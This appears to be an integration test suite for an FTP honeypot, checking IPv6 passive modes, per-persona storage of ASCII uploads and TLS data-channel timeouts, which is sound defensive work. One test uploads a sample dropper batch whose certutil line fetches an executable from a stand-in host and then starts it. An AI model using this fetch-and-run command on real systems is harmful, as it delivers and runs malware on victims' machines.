"""FTP end to end over IPv6 loopback, TYPE A uploads with curl, and a TLS data channel whose
handshake never comes (bounded by data_tls_timeout)."""

from __future__ import annotations

import ftplib
import hashlib
import socket
import ssl
import time

from tests.integration.test_ftp import ftp_config, run


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def _reply(f) -> bytes:
    line = f.readline()
    while line[3:4] == b"-":
        line = f.readline()
    return line


def test_ipv6_control_pasv_per_persona_and_epsv(honeypot_factory):
    # curl, ftplib and lftp all send EPSV on IPv6, so PASV is asked by hand (as scanners do)
    for preset, pasv_ok in (("debian-12", True), ("windows-2008r2", False)):
        hp = honeypot_factory(ftp_config(preset), name=preset,
                              extra_args=["--listen", "::1"])
        port = hp.port(21)
        with socket.create_connection(("::1", port), timeout=10) as s:
            f = s.makefile("rb")
            _reply(f)
            s.sendall(b"USER bob\r\nPASS pw\r\n")
            _reply(f)
            assert _reply(f).startswith(b"230")
            s.sendall(b"PASV\r\n")
            got = _reply(f)
            if pasv_ok:  # vsftpd: no IPv4 to give; the client uses the control address
                assert got.startswith(b"227 Entering Passive Mode (0,0,0,0,"), got
                p1, p2 = (int(x) for x in got.split(b"(")[1].split(b")")[0].split(b",")[4:])
                with socket.create_connection(("::1", p1 * 256 + p2), timeout=10) as data:
                    s.sendall(b"NLST\r\n")
                    assert _reply(f).startswith(b"150")
                    listing = b""
                    while chunk := data.recv(4096):
                        listing += chunk
                assert b"upload" in listing
                assert _reply(f).startswith(b"226")
            else:  # IIS refuses PASV on IPv6
                assert got == b"501 Server cannot accept argument.\r\n"
        out = run(["curl", "-sS", "-v", f"ftp://bob:pw@[::1]:{port}/"])
        assert out.returncode == 0, out.stderr
        assert b"< 229 Entering Extended Passive Mode (|||" in out.stderr
        assert b"upload" in out.stdout.lower()
        hp.stop()
        rows = hp.rows("SELECT DISTINCT remote_host FROM connections WHERE "
                       "connection_protocol = 'ftpd'")
        assert ("::1",) in rows
        assert ("PASV",) in hp.rows("SELECT ftp_command_command FROM ftp_commands")


def test_type_a_uploads_are_stored_as_each_product_writes_them(honeypot_factory):
    # bare LFs on the wire in TYPE A, as a Unix bot's hand-rolled client sends them
    text = b"@echo off\ncertutil -urlcache -f http://198.51.100.9/a.exe a.exe\r\nstart a.exe\n"
    expected = {
        "windows-2008r2": text.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"),
        "debian-12": text,  # vsftpd: ascii_upload_enable=NO, bytes land as sent
    }
    for preset, stored in expected.items():
        hp = honeypot_factory(ftp_config(preset), name=preset)
        f = ftplib.FTP()
        f.connect("127.0.0.1", hp.port(21), timeout=10)
        f.login("eve", "pw")
        assert f.voidcmd("TYPE A") in ("200 Type set to A.", "200 Switching to ASCII mode.")
        with f.transfercmd("STOR drop.bat") as conn:
            conn.sendall(text)
        assert f.voidresp().startswith("226")
        assert f.size("drop.bat") == len(stored)
        got: list[bytes] = []
        f.voidcmd("TYPE A")
        with f.transfercmd("RETR drop.bat") as conn:
            while chunk := conn.recv(4096):
                got.append(chunk)
        f.voidresp()
        assert b"".join(got) == stored
        f.quit()
        hp.stop()
        assert (hp.state / "binaries" / md5(stored)).read_bytes() == stored
        rows = hp.rows("SELECT download_url, download_md5_hash FROM downloads")
        assert any(u.endswith("/drop.bat") and h == md5(stored) for u, h in rows), rows
        downloads = [d for line in hp.json_lines() for d in line.get("downloads", [])]
        assert any(d["md5"] == md5(stored) for d in downloads)


def test_tls_data_channel_that_never_handshakes_is_dropped(honeypot_factory):
    hp = honeypot_factory(ftp_config("debian-12", data_tls_timeout=1.0))
    port = hp.port(21)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
        raw.recv(100)
        raw.sendall(b"AUTH TLS\r\n")
        assert raw.recv(100).startswith(b"234")
        with ctx.wrap_socket(raw) as s:
            f = s.makefile("rb")

            def cmd(line: bytes) -> bytes:
                s.sendall(line + b"\r\n")
                return _reply(f)

            assert cmd(b"USER root").startswith(b"331")
            assert cmd(b"PASS toor").startswith(b"230")
            assert cmd(b"PBSZ 0") == b"200 PBSZ set to 0.\r\n"
            assert cmd(b"PROT P") == b"200 PROT now Private.\r\n"
            # a download: the data socket is closed once the handshake is overdue
            pasv = cmd(b"EPSV")
            data_port = int(pasv.split(b"|||")[1].split(b"|")[0])
            with socket.create_connection(("127.0.0.1", data_port), timeout=10) as data:
                assert cmd(b"LIST").startswith(b"150")
                assert _reply(f).startswith(b"226")
                started = time.monotonic()
                try:
                    assert data.recv(100) == b""
                except ConnectionResetError:
                    pass
                assert time.monotonic() - started < 5
            # an upload: vsftpd's stalled-data answer, then the session ends
            pasv = cmd(b"EPSV")
            data_port = int(pasv.split(b"|||")[1].split(b"|")[0])
            with socket.create_connection(("127.0.0.1", data_port), timeout=10):
                started = time.monotonic()
                assert cmd(b"STOR stalled.bin") == b"150 Ok to send data.\r\n"
                assert _reply(f) == b"421 Data timeout. Reconnect. Sorry.\r\n"
                assert 0.5 < time.monotonic() - started < 5
                assert f.read() == b""
    hp.stop()
    # two data channels, each a child row of the control connection, both gone
    children = hp.rows("SELECT COUNT(*) FROM connections WHERE connection_parent IS NOT NULL "
                       "AND connection_type = 'accept'")
    assert children == [(2,)]
    assert hp.rows("SELECT offer_url FROM offers") == [
        (f"ftp://root@127.0.0.1:{port}/stalled.bin",)]
    assert hp.rows("SELECT COUNT(*) FROM downloads") == [(0,)]  # nothing arrived
